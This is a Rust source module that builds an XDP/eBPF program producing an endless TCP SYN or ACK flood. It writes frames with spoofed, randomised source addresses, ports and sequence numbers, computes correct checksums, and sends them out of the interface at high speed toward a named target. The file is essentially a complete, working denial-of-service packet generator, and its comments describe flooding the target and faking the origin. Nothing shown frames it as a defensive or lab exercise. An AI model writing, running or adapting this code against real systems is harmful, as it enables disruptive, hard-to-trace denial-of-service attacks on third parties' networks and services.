//! Frames without end: an XDP program in the client's namespace writes each one anew, with another source
//! address, port and sequence number, under right checksums, and sends it out of the interface.
//!
//! The kernel runs it by itself (`BPF_PROG_TEST_RUN` with live frames), about ten times as fast as a raw
//! socket sends. A frame's memory comes back to the program after use, rewritten by whoever had it, so
//! that nothing but what the program writes can be relied on.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::OwnedFd;

use super::code::{Instruction, Reg};
use super::{Hook, load};

const HELPER_RANDOM: i32 = 7;
const XDP_DROP: i32 = 1;
const XDP_TX: i32 = 3;
const ETHERNET: usize = 14;

/// What the frames are.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Beginnings of connections, as a client sends them: maximum segment size, window scale, SACK.
    Syn,
    /// Acknowledgements of nothing, with guessed numbers.
    Ack,
}

/// Where frames go, and from where they pretend to come.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What they are.
    pub kind: Kind,
    /// The hardware address of the next hop.
    pub next_hop: [u8; 6],
    /// A network of sources: the last 16 bits of the address vary.
    pub network: IpAddr,
    /// Who is flooded.
    pub target: SocketAddr,
}

impl Flood {
    /// The frame with all that varies left zero, checksums too.
    fn template(&self) -> Vec<u8> {
        let (flags, options): (u8, &[u8]) = match self.kind {
            Kind::Syn => (0x02, &[2, 4, 5, 180, 1, 1, 4, 2, 1, 3, 3, 7]),
            Kind::Ack => (0x10, &[]),
        };
        let mut tcp = vec![0, 0];
        tcp.extend(self.target.port().to_be_bytes());
        tcp.extend([0; 8]);
        tcp.push((5 + options.len() as u8 / 4) << 4);
        tcp.push(flags);
        tcp.extend([0xfa, 0xf0, 0, 0, 0, 0]);
        tcp.extend(options);

        let mut frame = self.next_hop.to_vec();
        frame.extend([2, 0, 0, 0, 0, 1]);
        match (self.network, self.target.ip()) {
            (IpAddr::V4(from), IpAddr::V4(to)) => {
                frame.extend([8, 0, 0x45, 0]);
                frame.extend((20 + tcp.len() as u16).to_be_bytes());
                frame.extend([0, 0, 0x40, 0, 64, 6, 0, 0]);
                frame.extend(from.octets());
                frame.extend(to.octets());
            }
            (IpAddr::V6(from), IpAddr::V6(to)) => {
                frame.extend([0x86, 0xdd, 0x60, 0, 0, 0]);
                frame.extend((tcp.len() as u16).to_be_bytes());
                frame.extend([6, 64]);
                frame.extend(from.octets());
                frame.extend(to.octets());
            }
            // A flood from the other family cannot be; it ends up as frames that nobody reads.
            _ => frame.extend([0; 22]),
        }
        frame.extend(tcp);
        frame
    }

    /// How long each frame is.
    #[must_use]
    pub fn length(&self) -> usize {
        self.template().len()
    }

    /// The program that makes the frames.
    pub fn program(&self) -> io::Result<OwnedFd> {
        load(Hook::Xdp, &self.code())
    }

    fn code(&self) -> Vec<Instruction> {
        let frame = self.template();
        let four = self.target.is_ipv4();
        let tcp = ETHERNET + if four { 20 } else { 40 };
        let offset = |at: usize| at as i16;
        let (data, host_port, sequence, guess, sum) = (Reg::R6, Reg::R7, Reg::R8, Reg::R9, Reg::R1);

        let mut code = vec![
            Instruction::load32(data, Reg::R1, 0),
            Instruction::load32(Reg::R3, Reg::R1, 4),
            Instruction::copy(Reg::R4, data),
            Instruction::add(Reg::R4, frame.len() as i32),
            Instruction::set(Reg::R0, XDP_DROP),
            Instruction::jump_at_least(Reg::R3, Reg::R4, 1),
            Instruction::exit(),
        ];
        for (number, word) in frame.chunks(4).enumerate() {
            code.push(match *word {
                [a, b, c, d] => {
                    let value = i32::from_ne_bytes([a, b, c, d]);
                    Instruction::store32(data, offset(number * 4), value)
                }
                [a, b] => {
                    let value = u16::from_ne_bytes([a, b]);
                    Instruction::store16(data, offset(number * 4), value)
                }
                _ => continue,
            });
        }
        for register in [host_port, sequence, guess] {
            code.push(Instruction::call(HELPER_RANDOM));
            code.push(Instruction::copy(register, Reg::R0));
        }
        if self.kind == Kind::Syn {
            code.push(Instruction::set(guess, 0));
        }
        // Host part of the source, source port, sequence number, acknowledged number.
        let host = if four { ETHERNET + 14 } else { ETHERNET + 22 };
        code.push(Instruction::store16_register(data, offset(host), host_port));
        code.push(Instruction::store32_register(
            data,
            offset(tcp + 4),
            sequence,
        ));
        code.push(Instruction::store32_register(data, offset(tcp + 8), guess));
        code.push(Instruction::copy(Reg::R2, host_port));
        code.push(Instruction::shift_right(Reg::R2, 16));
        code.push(Instruction::and(Reg::R2, 0xffff));
        code.push(Instruction::store16_register(data, offset(tcp), Reg::R2));

        // One's complement sums do not depend on the order of bytes: memory order throughout (RFC 1071).
        let addresses = if four { 26..34 } else { 22..54 };
        let pseudo = [0, 6]
            .into_iter()
            .chain((frame.len() as u16 - tcp as u16).to_be_bytes());
        let fixed: Vec<u8> = frame[addresses].iter().copied().chain(pseudo).collect();
        let base = words(&fixed) + words(&frame[tcp..]);
        code.push(Instruction::set(sum, base as i32));
        code.push(Instruction::add_register(sum, Reg::R2));
        for register in [sequence, guess] {
            code.push(Instruction::copy(Reg::R3, register));
            code.push(Instruction::shift_right(Reg::R3, 16));
            code.push(Instruction::and(Reg::R3, 0xffff));
            code.push(Instruction::add_register(sum, Reg::R3));
            code.push(Instruction::copy(Reg::R3, register));
            code.push(Instruction::and(Reg::R3, 0xffff));
            code.push(Instruction::add_register(sum, Reg::R3));
        }
        code.push(Instruction::copy(Reg::R4, host_port));
        code.push(Instruction::and(Reg::R4, 0xffff));
        code.push(Instruction::add_register(sum, Reg::R4));
        finish(&mut code, sum, data, offset(tcp + 16));
        if four {
            code.push(Instruction::set(sum, words(&frame[ETHERNET..tcp]) as i32));
            code.push(Instruction::add_register(sum, Reg::R4));
            finish(&mut code, sum, data, offset(ETHERNET + 10));
        }
        code.push(Instruction::set(Reg::R0, XDP_TX));
        code.push(Instruction::exit());
        code
    }
}

/// Folds a sum to 16 bits and stores its complement.
fn finish(code: &mut Vec<Instruction>, sum: Reg, data: Reg, at: i16) {
    for _ in 0..2 {
        code.push(Instruction::copy(Reg::R3, sum));
        code.push(Instruction::shift_right(Reg::R3, 16));
        code.push(Instruction::and(sum, 0xffff));
        code.push(Instruction::add_register(sum, Reg::R3));
    }
    code.push(Instruction::xor(sum, 0xffff));
    code.push(Instruction::store16_register(data, at, sum));
}

fn words(bytes: &[u8]) -> u32 {
    let word = |pair: &[u8]| u32::from(u16::from_ne_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
    bytes.chunks(2).map(word).sum()
}
